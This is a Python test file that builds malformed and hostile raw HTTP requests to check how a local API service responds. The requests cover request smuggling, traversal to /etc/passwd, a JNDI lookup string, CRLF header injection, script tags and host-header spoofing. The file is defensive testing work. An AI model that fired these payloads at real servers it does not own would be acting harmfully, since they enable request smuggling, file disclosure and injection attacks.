"""Malformed, hostile or odd HTTP, after RFC 9112 and the corpora of studies of request smuggling."""

from __future__ import annotations

from typing import TYPE_CHECKING

from drills.raw_requests import BY_ID, CLOSED, FOUND, GOOD, LONG, NOWHERE, REFUSED, WAITS, Case, chunked, head, post

if TYPE_CHECKING:
    from collections.abc import Iterator


def framing() -> Iterator[Case]:
    """Yield lengths and codings that contradict each other, and pipelines."""
    length, body = f"Content-Length: {len(GOOD)}", GOOD
    two: dict[str, tuple[bytes | str, ...]] = {
        "length and chunks": ("Content-Length: 5", "Transfer-Encoding: chunked"),
        "chunks and length": ("Transfer-Encoding: chunked", "Content-Length: 5"),
        "two lengths": (length, "Content-Length: 5"),
        "two lengths in one": (f"{length}, 5",),
        "the same length twice": (length, length),
        "a list of the same length": (f"{length}, {len(GOOD)}",),
        "a signed length": (f"Content-Length: +{len(GOOD)}",),
        "a negative length": ("Content-Length: -1",),
        "a hexadecimal length": ("Content-Length: 0x16",),
        "a length with a point": ("Content-Length: 22.0",),
        "a length with an exponent": ("Content-Length: 2e1",),
        "a length without end": (f"Content-Length: {'9' * 400}",),
        "a length of 4,400 zeros": (f"Content-Length: {'0' * 4_400}",),
        "a length of 2**64": (f"Content-Length: {2**64}",),
        "a length of 2**64 + 22": (f"Content-Length: {2**64 + 22}",),
        "an empty length": ("Content-Length:",),
        "a length with an underscore": ("Content-Length: 2_2",),
        "arabic digits": ("Content-Length: ٢٢".encode(),),
        "a length before a space": (f"Content-Length : {len(GOOD)}",),
        "an obs-fold length": ("Content-Length:", f" {len(GOOD)}"),
        "chunked twice": ("Transfer-Encoding: chunked, chunked",),
        "chunked not last": ("Transfer-Encoding: chunked, identity",),
        "unknown coding": ("Transfer-Encoding: cow",),
        "xchunked": ("Transfer-Encoding: xchunked",),
        "chunked after a tab": ("Transfer-Encoding:\tchunked\x0b",),
        "two codings": ("Transfer-Encoding: chunked", "Transfer-Encoding: identity"),
        "coding before a space": ("Transfer-Encoding : chunked",),
        "coding with a NUL": ("Transfer-Encoding: chunked\x00",),
        "coding in quotes": ('Transfer-Encoding: "chunked"',),
        "coding after a folded line": ("X: y", " Transfer-Encoding: chunked"),
    }
    may = REFUSED | {WAITS, 411, 413, 415, 422, 501}
    for name, lines in two.items():
        yield Case(name, head("POST", BY_ID, "Content-Type: application/json", *lines) + body, may)
    smuggled = head("GET", "/livez", "X-Request-ID: smuggled")
    yield Case(
        "a second request inside CL.TE",
        head("POST", BY_ID, "Content-Type: application/json", f"Content-Length: {5 + len(smuggled)}",
             "Transfer-Encoding: chunked") + b"0\r\n\r\n" + smuggled,
        REFUSED,
    )  # fmt: skip
    yield Case("a body on GET", head("GET", "/livez", "Content-Length: 5") + b"hello", FOUND | {400, 415})
    yield Case("a request as the body of GET", head("GET", "/livez", f"Content-Length: {len(smuggled)}") + smuggled,
               FOUND | {400, 415})  # fmt: skip
    yield Case("a body that is not all there", head("POST", BY_ID, "Content-Type: application/json",
               "Content-Length: 50") + GOOD, frozenset({WAITS, CLOSED, 408}))  # fmt: skip
    yield Case("a body and something after it", post(BY_ID, GOOD) + b"GARBAGE\r\n\r\n", FOUND | {400})
    yield Case("three at once", head("GET", "/livez") * 3, FOUND, 3)
    yield Case("twenty at once", head("GET", "/livez") * 20, FOUND, 20)
    yield Case("three of one body each", post(BY_ID, GOOD) * 3, FOUND, 3)
    yield Case("good, bad", head("GET", "/livez") + b"\x00\x01\x02\r\n\r\n", FOUND | {400})
    yield Case("empty lines first", b"\r\n\r\n" + head("GET", "/livez"), FOUND | {400})
    yield Case("half a head", b"GET /livez HTTP/1.1\r\nHost: 127.0.0.1\r\n", frozenset({WAITS, CLOSED, 408}))


def chunks() -> Iterator[Case]:
    """Yield chunks, well made and badly."""
    size = f"{len(GOOD):x}".encode()
    end = b"\r\n0\r\n\r\n"
    well = {
        "one chunk": size + b"\r\n" + GOOD + end,
        "a chunk a byte": b"".join(b"1\r\n%c\r\n" % byte for byte in GOOD) + b"0\r\n\r\n",
        "a size in capitals": size.upper() + b"\r\n" + GOOD + end,
        "leading zeros": b"0000" + size + b"\r\n" + GOOD + end,
        "a trailer": size + b"\r\n" + GOOD + b"\r\n0\r\nX-Trailer: y\r\n\r\n",
        "a trailer that names the host": size + b"\r\n" + GOOD + b"\r\n0\r\nHost: evil.example\r\n\r\n",
        "an extension": size + b";a=b\r\n" + GOOD + end,
        "an extension in quotes": size + b';a="b;c"\r\n' + GOOD + end,
    }
    for name, tail in well.items():
        yield Case(name, chunked(tail), FOUND | {400})
    badly = {
        "no chunk": b"0\r\n\r\n",
        "a size that is no number": b"zz\r\n" + GOOD + end,
        "a size with 0x": b"0x" + size + b"\r\n" + GOOD + end,
        "a negative size": b"-1\r\n" + GOOD + end,
        "a size of 2**64": b"10000000000000000\r\n" + GOOD + end,
        "a size of 2**64 - 1": b"ffffffffffffffff\r\n" + GOOD + end,
        "a size of 17 digits": b"f" * 17 + b"\r\n" + GOOD + end,
        "a size before a space": size + b" \r\n" + GOOD + end,
        "a size after a space": b" " + size + b"\r\n" + GOOD + end,
        "a size with a bare LF": size + b"\n" + GOOD + b"\n0\n\n",
        "a size with a bare CR": size + b"\r" + GOOD + b"\r0\r\r",
        "an empty size": b"\r\n" + GOOD + end,
        "a chunk that is longer": b"5\r\n" + GOOD + end,
        "a chunk that is shorter": b"ff\r\n" + GOOD + end,
        "an extension of 100 KB": size + b";" + b"x" * 100_000 + b"\r\n" + GOOD + end,
        "ten thousand extensions": size + b";a=b" * 10_000 + b"\r\n" + GOOD + end,
        "an extension with a bare LF": size + b";a\nb\r\n" + GOOD + end,
        "no last chunk": size + b"\r\n" + GOOD + b"\r\n",
        "a NUL for a size": b"\x00\r\n" + GOOD + end,
    }
    may = REFUSED | {WAITS, 200, 404, 408, 413, 422, 431}
    for name, tail in badly.items():
        yield Case(f"chunks: {name}", chunked(tail), may)
    yield Case("chunks in HTTP/1.0", head("POST", BY_ID, "Content-Type: application/json",
               "Transfer-Encoding: chunked", version="HTTP/1.0") + size + b"\r\n" + GOOD + end,
               may)  # fmt: skip


def heads() -> Iterator[Case]:
    """Yield headers, hosts and request lines."""
    lines: dict[str, bytes] = {
        "a folded line": b"X: a\r\n b",
        "a folded first line": b" X: a",
        "a NUL in a value": b"X: a\x00b",
        "a NUL in a name": b"X\x00: a",
        "a control character": b"X: a\x01b",
        "DEL": b"X: a\x7fb",
        "a lone CR": b"X: a\rb",
        "a lone CR before a header": b"X: a\rTransfer-Encoding: chunked",
        "a bare LF": b"X: a\nY: b",
        "no colon": b"X",
        "no name": b": a",
        "a space in the name": b"X Y: a",
        "a space before the colon": b"X : a",
        "a bracket in the name": b"X(Y): a",
        "a name beyond ASCII": b"X\xc3\xa9: a",
        "a value in latin-1": b"X: caf\xe9",
        "a value in UTF-8": "X: café ☕".encode(),
        "a value of 0xff": b"X: " + b"\xff" * 50,
        "an id with a line break": b"X-Request-ID: a\r\n\tb",
        "an id with an encoded line break": b"X-Request-ID: a%0d%0aSet-Cookie: x",
        "an id in UTF-8": "X-Request-ID: ŝ".encode(),
        "an id with a script": b"X-Request-ID: <script>alert(1)</script>",
        "a very long id": b"X-Request-ID: " + LONG.encode(),
        "two ids": b"X-Request-ID: a\r\nX-Request-ID: b",
        "an empty id": b"X-Request-ID:",
        "a traceparent that is none": b"traceparent: 00-" + b"z" * 32 + b"-" + b"0" * 16 + b"-01",
        "a traceparent of zeros": b"traceparent: 00-" + b"0" * 32 + b"-" + b"0" * 16 + b"-01",
        "a very long traceparent": b"traceparent: " + b"00-" * 3000,
        "two traceparents": b"traceparent: 00\r\ntraceparent: 01",
        "a tracestate of nonsense": b"tracestate: ,,,=,=\xff",
        "a key that is none": b"X-API-Key: " + LONG.encode(),
        "a key in latin-1": b"X-API-Key: \xe9\xff",
        "an empty key": b"X-API-Key:",
        "two keys": b"X-API-Key: a\r\nX-API-Key: b",
        "Basic credentials": b"Authorization: Basic !!!!",
        "a forwarded address": b"X-Forwarded-For: 1.2.3.4, ::1, <script>",
        "a forwarded host": b'X-Forwarded-Host: evil.example\r\nForwarded: host=evil.example;for="_x"',
        "an original URL": b"X-Original-URL: /metrics\r\nX-Rewrite-URL: /metrics",
        "another method": b"X-HTTP-Method-Override: DELETE",
        "a range": b"Range: bytes=0-18446744073709551615",
        "ranges without end": b"Range: bytes=" + b"0-," * 5000,
        "conditions": b'If-None-Match: *\r\nIf-Modified-Since: never\r\nIf-Match: "',
        "Accept of nonsense": b"Accept: " + b"*/*;q=\xff," * 500,
        "Accept-Encoding of everything": b"Accept-Encoding: gzip;q=1, *;q=0, identity;q=0",
        "a cookie of 8 KB": b"Cookie: a=" + b"x" * 8000,
        "Upgrade to h2c": b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
        "Upgrade to a websocket": b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "Expect of something else": b"Expect: 200-ok",
        "Connection names a header": b"Connection: Host",
        "Connection of nonsense": b"Connection: \xff\xfe, ,,",
        "TE": b"TE: trailers, \xff",
        "an origin": b"Origin: null",
        "an origin elsewhere": b"Origin: https://evil.example",
    }  # fmt: skip
    for name, line in lines.items():
        yield Case(f"head: {name}", head("GET", "/model", line), frozenset({200, 304, 400, 401, 417, CLOSED}))
    yield Case("Expect: 100-continue", post(BY_ID, GOOD, "Expect: 100-continue"), FOUND | {100})
    hosts: dict[str, tuple[bytes, ...]] = {
        "no host": (),
        "two hosts": (b"Host: 127.0.0.1", b"Host: evil.example"),
        "another host": (b"Host: evil.example",),
        "a host with a path": (b"Host: 127.0.0.1/evil",),
        "a host with a user": (b"Host: evil@127.0.0.1",),
        "a host with a NUL": (b"Host: 127.0.0.1\x00",),
        "an empty host": (b"Host:",),
        "a host of ports": (b"Host: 127.0.0.1:80:90",),
        "a host list": (b"Host: 127.0.0.1, evil.example",),
        "a very long host": (b"Host: " + LONG.encode(),),
        "a host before a space": (b"Host : 127.0.0.1",),
    }
    for name, named in hosts.items():
        yield Case(name, head("GET", "/model", *named, host=False), REFUSED)
    first: dict[str, bytes] = {
        "HTTP/0.9": b"GET /\r\n",
        "HTTP/0.9 and headers": b"GET /\r\nHost: 127.0.0.1\r\n\r\n",
        "HTTP/2 preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00",
        "HTTP/1.2": head("GET", "/livez", version="HTTP/1.2"),
        "HTTP/3.0": head("GET", "/livez", version="HTTP/3.0"),
        "http/1.1": head("GET", "/livez", version="http/1.1"),
        "HTTP/1.1 twice": b"GET / HTTP/1.1 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        "HTTP/01.1": head("GET", "/livez", version="HTTP/01.1"),
        "no version": b"GET /livez \r\n\r\n",
        "RTSP": head("GET", "/livez", version="RTSP/1.0"),
        "two spaces": b"GET  /livez HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        "tabs for spaces": b"GET\t/livez\tHTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        "a space first": b" GET /livez HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        "bare LF throughout": b"GET /livez HTTP/1.1\nHost: 127.0.0.1\n\n",
        "bare CR throughout": b"GET /livez HTTP/1.1\rHost: 127.0.0.1\r\r",
        "a method in small letters": head("get", "/livez"),
        "a made-up method": head("FROBNICATE", "/livez"),
        "a method of 10,000 letters": head("A" * 10_000, "/livez"),
        "a method with a NUL": b"GE\x00T /livez HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        "no method": b" /livez HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        "TLS hello": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(200)),
        "SSH hello": b"SSH-2.0-OpenSSH_9.6\r\n",
        "SMTP": b"EHLO evil.example\r\n",
        "a proxy line": b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n" + head("GET", "/livez"),
        "redis": b"*1\r\n$4\r\nPING\r\n",
        "mongo": b"\x3a\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\xd4\x07\x00\x00" + b"\x00" * 42,
        "NULs": b"\x00" * 200,
        "0xff": b"\xff" * 200,
        "UTF-16": "GET /livez HTTP/1.1\r\n\r\n".encode("utf-16"),
        "a BOM": b"\xef\xbb\xbf" + head("GET", "/livez"),
    }
    for name, sent in first.items():
        yield Case(f"line: {name}", sent, REFUSED | {WAITS, 200, 405, 431, 505, 501})


def targets() -> Iterator[Case]:
    """Yield paths and methods."""
    targets: dict[str, str | bytes] = {
        name: name
        for name in (
            "//", "///livez", "//evil.example/livez", "/./livez", "/../livez", "/livez/", "/livez/..",
            "/livez/../model",
            "/docs/../../../../etc/passwd", "/docs/swagger/..%2f..%2f..%2fetc/passwd", "/docs/%2e%2e/%2e%2e/etc/passwd",
            "/docs/..%5c..%5cwindows", "/docs/swagger/....//....//etc/passwd", "/%2e/livez", "/livez%00",
            "/livez%0d%0aX:%20y",
            "/livez%20", "/livez;a=b", "/livez%3fx", "/LIVEZ", "/%6civez%", "/%zz", "/%", "/%c0%ae%c0%ae/etc/passwd",
            "/%ff%fe", "/%ed%a0%80", "/%u0041", "/\\livez", "/<script>alert(1)</script>", "/${jndi:ldap://evil.example}",
            "/{{7*7}}", "/.git/config", "/.env", "/server-status", "/wp-login.php", "/cgi-bin/test",
            "/openapi.json%00.html",
            "/docs/swagger/", "/docs/nothing", "/redoc", "/predict_churn_by_id/../livez", "/customers/../model",
        )
    }  # fmt: skip
    more: dict[str, str | bytes] = {
        "no target": "",
        "an asterisk": "*",
        "no slash": "livez",
        "absolute-form elsewhere": "http://evil.example/livez",
        "absolute-form of a file": "file:///etc/passwd",
        "authority-form": "127.0.0.1:80",
        "a fragment": "/livez#x",
        "a NUL": b"/livez\x00",
        "a tab": b"/livez\tx",
        "a control character": b"/livez\x01",
        "UTF-8": "/café".encode(),
        "latin-1": b"/caf\xe9",
        "an overlong slash": b"/\xc0\xaflivez",
        "a long path": "/" + LONG,
        "16 KB of dots": "/" + "../" * 5000,
        "16 KB of percents": "/" + "%41" * 5000,
        "a query of 16 KB": "/nothing?" + "a=b&" * 4000,
        "a query with a NUL": "/nothing?a=%00",
    }
    may = NOWHERE | {200, 304, 307, 308, CLOSED, 431}  # /livez by another spelling is /livez, or nothing
    for name, target in {**targets, **more}.items():
        yield Case(f"path: {name[:40]}", head("GET", target), may)
    yield Case("absolute-form", head("GET", "http://127.0.0.1/livez"), may)
    yield Case("CONNECT", head("CONNECT", "evil.example:443"), NOWHERE | REFUSED)
    yield Case("CONNECT to a path", head("CONNECT", "/livez"), NOWHERE | REFUSED)
    yield Case("OPTIONS *", head("OPTIONS", "*"), NOWHERE | REFUSED | {200, 204})
    for method in ("TRACE", "TRACK", "DEBUG", "PATCH", "DELETE", "PROPFIND", "LOCK", "M-SEARCH", "SOURCE", "PURGE"):
        yield Case(f"{method} /livez", head(method, "/livez"), NOWHERE | {CLOSED})
